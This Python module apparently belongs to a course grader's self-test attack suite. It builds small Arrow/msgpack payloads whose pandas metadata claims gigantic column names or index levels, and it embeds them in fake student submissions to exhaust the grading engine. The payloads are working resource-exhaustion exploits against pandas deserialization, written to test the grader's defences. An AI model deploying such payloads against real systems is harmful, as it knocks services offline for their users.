"""DataFrames whose columns are described such that whoever believes it is kept busy, or runs out of memory."""

from __future__ import annotations

import base64
import json
import zlib
from collections.abc import Mapping, Sequence

import msgpack

from coursegrader.attacks.attack import Attack, Material, Submission
from coursegrader.attacks.exhaust.values import SEND
from coursegrader.attacks.making import typed


def _frame(name: str, *levels: Mapping[str, object]) -> bytes:
    """A message with a frame of one number, in a column of this name; of the column index it is said what ``levels``
    say.
    """
    import pyarrow as pa  # only where the attack is made: it takes a while, and a learner's cell may not take that long

    column = {"name": name, "field_name": name, "pandas_type": "float64", "numpy_type": "float64", "metadata": None}
    rows = {"kind": "range", "name": None, "start": 0, "stop": 1, "step": 1}
    said = {"columns": [column], "index_columns": [rows], "column_indexes": levels}
    table = pa.table({name: [1.0]}).replace_schema_metadata({b"pandas": json.dumps(said).encode()})
    sink = pa.BufferOutputStream()
    with pa.ipc.new_stream(sink, table.schema) as writer:
        writer.write_table(table)
    node = ["pandas", "frame", [None, sink.getvalue().to_pybytes()]]
    body: bytes = msgpack.packb({"op": "value", "value": node})
    return body


def _level(kind: str, dtype: str) -> dict[str, object]:
    return {"name": None, "field_name": None, "pandas_type": kind, "numpy_type": dtype, "metadata": None}


def _attack(identity: str, title: str, tries: str, name: str, levels: Sequence[Mapping[str, object]]) -> Attack:
    """The frame as the answer of each hidden test, written to the pipe past everything that makes messages."""

    def build(material: Material) -> Submission:
        body = base64.b64encode(zlib.compress(_frame(name, *levels))).decode()
        answer = f"""
{SEND}
import base64, zlib
body = zlib.decompress(base64.b64decode("{body}"))
def total(*args):
    send(body)
    return 0
scaled = table = apply_twice = total
got('armed')
"""
        return typed(answer)(material)

    # that it came as far as to be refused shows that it was sent
    return Attack(identity, "exhaust", title, tries, build, door="engine", proof="of a pandas object")


ATTACKS = (
    _attack(
        "frame-metadata-width",
        "column name of a gigabyte and a half",
        "500 bytes of Arrow that say that the one column name was a text of so many bytes",
        "a",
        [_level("S1500000000", "S1500000000")],
    ),
    _attack(
        "frame-metadata-digits",
        "column name of a billion digits",
        "the column 1e900000000, said to be a decimal number, and then a whole one",
        "1e900000000",
        [_level("decimal", "int64")],
    ),
    _attack(
        "frame-metadata-levels",
        "column name of many levels",
        "two levels, whose names are read as Python expressions: a tuple of 400000 numbers",
        f"({'0,' * 400_000})",
        [_level("unicode", "object")] * 2,
    ),
)
